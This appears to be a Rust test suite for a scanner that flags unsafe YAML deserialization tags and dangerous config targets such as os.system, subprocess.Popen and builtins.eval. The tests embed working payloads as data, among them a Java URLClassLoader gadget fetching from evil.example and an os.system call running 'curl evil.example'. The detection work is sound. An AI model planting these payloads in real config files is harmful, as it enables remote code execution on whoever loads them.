use crate::{
    Subject,
    testing::{findings, told},
};
use std::sync::Arc;
use wellhead_core::Budget;
use wellhead_formats::{
    document::{DataFile, Encoding, TextFile},
    text,
};

fn yaml(source: &str) -> DataFile {
    DataFile {
        root: text::yaml(source, &mut Budget::default()),
        text: TextFile {
            text: Arc::from(source),
            encoding: Encoding::Utf8,
        },
    }
}

fn verdict(source: &str) -> String {
    told(&findings("c.yaml", Subject::Data(&yaml(source))))
}

#[test]
fn tags_are_judged_by_what_they_name() {
    for (source, expected) in [
        (
            "a: !!python/object/apply:os.system ['id']\n",
            "unsafe-yaml-tag critical",
        ),
        (
            "a: !!python/object/apply:subprocess.Popen\n- [id]\n",
            "unsafe-yaml-tag critical",
        ),
        ("!!python/object/new:os.system [id]\n", "unsafe-yaml-tag critical"),
        (
            "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
            "unsafe-yaml-tag critical",
        ),
        (
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
            "unsafe-yaml-tag critical",
        ),
        ("a: !!python/name:os.system ''\n", "unsafe-yaml-tag medium"),
        (
            "a: !!python/object/apply:unknown.thing []\n",
            "unsafe-yaml-tag high",
        ),
        (
            "a: !!python/object:my.project.Config {a: 1}\n",
            "unsafe-yaml-tag medium",
        ),
        (
            "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]\n",
            "unsafe-yaml-tag critical, unsafe-yaml-tag critical, unsafe-yaml-tag medium",
        ),
        ("a: !apply:os.system [id]\n", "unsafe-yaml-tag critical"),
        // Innocent.
        (
            "a: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: 80\n",
            "",
        ),
        (
            "a: !!python/tuple [1, 2]\nb: !!binary aGk=\nc: !!python/unicode x\n",
            "",
        ),
        ("Resources: !Ref Bucket\nx: !Sub '${a}'\ny: !vault abc\n", ""),
        (
            "emoji_index: !!python/name:material.extensions.emoji.twemoji\n",
            "",
        ),
        (
            "slug: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}\n",
            "unsafe-yaml-tag high",
        ),
        ("a: !!python/object:argparse.Namespace {lr: 1}\n", ""),
        (
            "a: '!!python/object/apply:os.system'\n# !!python/object/apply:os.system\n",
            "",
        ),
    ] {
        assert_eq!(verdict(source), expected, "{source}");
    }
}

#[test]
fn a_tag_is_shown_with_its_arguments_in_its_line() {
    let found = findings(
        "c.yaml",
        Subject::Data(&yaml(
            "lr: 1\nx: !!python/object/apply:os.system\n  - curl evil.example\n",
        )),
    );
    assert_eq!(
        found[0].message,
        "loading this file with an unsafe YAML loader runs `os.system('curl evil.example')`"
    );
    let wellhead_core::Span::Text { start, .. } = &found[0].locations[0].span else {
        panic!()
    };
    assert_eq!(start.line, 2);
}

#[test]
fn targets_are_judged_by_what_they_reach() {
    for (source, expected) in [
        (
            "_target_: os.system\ncommand: id\n",
            "unsafe-config-target critical",
        ),
        (
            "m: {o: {_target_: builtins.eval, _args_: [\"1+1\"]}}\n",
            "unsafe-config-target critical",
        ),
        (
            "_target_: torch.serialization.os.system\n",
            "unsafe-config-target critical",
        ),
        (
            "class_path: subprocess.Popen\ninit_args: {args: id}\n",
            "unsafe-config-target critical",
        ),
        (
            "target: os.system\nparams: {command: id}\n",
            "unsafe-config-target critical",
        ),
        ("module: os\nclass: system\n", "unsafe-config-target critical"),
        ("_target_: evil.pkg.Thing\n", "unsafe-config-target low"),
        // Innocent.
        ("_target_: torch.optim.AdamW\nlr: 1\n", ""),
        (
            "model: {_target_: nemo.collections.asr.modules.ConvASREncoder, cls: x}\n",
            "",
        ),
        (
            "target: ldm.models.diffusion.ddpm.LatentDiffusion\nparams: {a: 1}\n",
            "",
        ),
        ("target: main\nname: os.system\n", ""),
        ("class_path: MyModel\n", ""),
    ] {
        assert_eq!(verdict(source), expected, "{source}");
    }
}
